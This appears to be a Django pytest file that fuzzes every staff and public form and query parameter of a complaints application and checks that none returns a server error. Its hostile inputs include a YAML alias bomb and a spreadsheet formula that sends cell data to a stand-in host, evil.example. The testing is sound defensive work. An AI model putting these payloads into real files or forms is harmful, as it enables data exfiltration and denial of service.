"""Every form and every query parameter, filled with what a probe sends: NUL bytes,
10^5 characters, far dates, a YAML alias bomb, formula prefixes. The pages are read as
they are, their forms found in the HTML and sent back; not one answer is a 500."""

from __future__ import annotations

from dataclasses import dataclass, field
from html.parser import HTMLParser
from urllib.parse import urljoin, urlsplit

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client

from klachtpad.domain.permissions import StaffRole
from klachtpad.organisations.models import Membership, Organisation
from tests.complaints.factories import ComplaintFactory
from tests.public.links import open_status
from tests.staff.conftest import member
from tests.staff.test_sign_in import staff_url_names, url_for

pytestmark = pytest.mark.django_db

YAML_BOMB = (
    'a: &a ["x","x","x","x","x","x","x","x","x"]\n'
    + "".join(
        f"{chr(98 + i)}: &{chr(98 + i)} [*{chr(97 + i)}" + f",*{chr(97 + i)}" * 8 + "]\n"
        for i in range(8)
    )
    + "organisation: *i\n"
)
HOSTILE = {
    "nul": "a\x00b",
    "long": "x" * 100_000,
    "far past": "0001-01-01",
    "far future": "9999-12-31",
    "formula": '=HYPERLINK("https://evil.example/?"&A1,"klik")',
    "yaml": YAML_BOMB,
}
QUERY_NAMES = (
    "q",
    "page",
    "start",
    "end",
    "as",
    "year",
    "procedure",
    "received_on",
    "reference",
    "person",
    "location",
    "step",
    "state",
    "category",
    "choose",
    "next",
    "kind",
    "period",
)


@dataclass
class Form:
    action: str
    method: str
    fields: dict[str, str] = field(default_factory=dict)  # name -> input type
    choices: dict[str, str] = field(default_factory=dict)  # select name -> first value


class Forms(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[Form] = []
        self._select = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        a = {key: value or "" for key, value in attrs}
        if tag == "form":
            self.found.append(Form(a.get("action", ""), a.get("method", "get").lower()))
        elif not self.found:
            return
        elif tag in ("input", "textarea") and a.get("name"):
            self.found[-1].fields[a["name"]] = a.get("type", "text") if tag == "input" else "text"
        elif tag == "select" and a.get("name"):
            self._select = a["name"]
            self.found[-1].fields[self._select] = "select"
        elif tag == "option" and self._select:
            self.found[-1].choices.setdefault(self._select, a.get("value", ""))

    def handle_endtag(self, tag: str) -> None:
        if tag == "select":
            self._select = ""


def _filled(form: Form, value: str) -> dict[str, object]:
    data: dict[str, object] = {}
    for name, kind in form.fields.items():
        if name == "csrfmiddlewaretoken":
            continue
        if kind == "file":
            data[name] = SimpleUploadedFile("bestand.yaml", value.encode("utf-8", "replace"))
        elif kind in ("checkbox", "radio"):
            data[name] = "on"
        elif kind == "hidden":
            data[name] = value
        elif kind == "select":
            data[name] = value if len(value) < 50 else form.choices.get(name, "")
        else:
            data[name] = value
    return data


def _probe(client: Client, pages: list[str]) -> tuple[list[str], int]:
    """Send every form of every page with every hostile value: the 5xx answers, and
    how many forms were sent."""
    failures = []
    seen: set[tuple[str, tuple[str, ...]]] = set()
    for page in pages:
        answer = client.get(page)
        if answer.status_code >= 500:
            failures.append(f"GET {page}: {answer.status_code}")
        for label, value in HOSTILE.items():
            probe = client.get(page, dict.fromkeys(QUERY_NAMES, value))
            if probe.status_code >= 500:
                failures.append(f"GET {page}?…=<{label}>: {probe.status_code}")
        if answer.status_code != 200 or "html" not in answer.get("Content-Type", ""):
            continue
        parser = Forms()
        parser.feed(answer.content.decode())
        for form in parser.found:
            target = urlsplit(urljoin(page, form.action or page)).path
            key = (target, tuple(sorted(form.fields)))
            if key in seen or not target.startswith("/") or target.startswith("/account/logout"):
                continue
            seen.add(key)
            for label, value in HOSTILE.items():
                data = _filled(form, value)
                if form.method == "post":
                    sent = client.post(target, data)
                else:
                    sent = client.get(target, {k: str(v) for k, v in data.items()})
                if sent.status_code >= 500:
                    failures.append(f"{form.method.upper()} {target} <{label}>: {sent.status_code}")
    return failures, len(seen)


@pytest.fixture
def everyone(seeded, sign_in):
    """Someone holding every role at Next, signed in, and a complaint there."""
    organisation = Organisation.objects.get(slug="next")
    user = member(organisation, "complaints_officer", "alles")
    for role in StaffRole:
        Membership.objects.get_or_create(user=user, organisation=organisation, role=role.value)
    complaint = ComplaintFactory.create(procedure=organisation.procedures.get(), acknowledged=True)
    client = sign_in(user)
    client.raise_request_exception = False
    return organisation, complaint, client


def test_no_staff_form_or_query_answers_a_server_error(everyone):
    organisation, complaint, client = everyone
    pages = [url_for(name, args, organisation, complaint) for name, args in staff_url_names()]
    assert len(pages) > 40
    failures, forms = _probe(client, pages)
    assert failures == [] and forms >= 30


def test_no_public_form_or_query_answers_a_server_error(seeded):
    organisation = Organisation.objects.get(slug="next")
    complaint = ComplaintFactory.create(procedure=organisation.procedures.get(), acknowledged=True)
    client = Client(raise_request_exception=False)
    status = open_status(client, complaint)
    procedure = organisation.procedures.get()
    pages = [
        "/",
        "/next/",
        "/next/klacht/",
        f"/next/klacht/{procedure.key}/",
        "/next/klacht/nieuwe-link/",
        status,
        "/account/login/",
        "/account/password/forgotten/",
    ]
    failures, forms = _probe(client, pages)
    assert failures == [] and forms >= 6
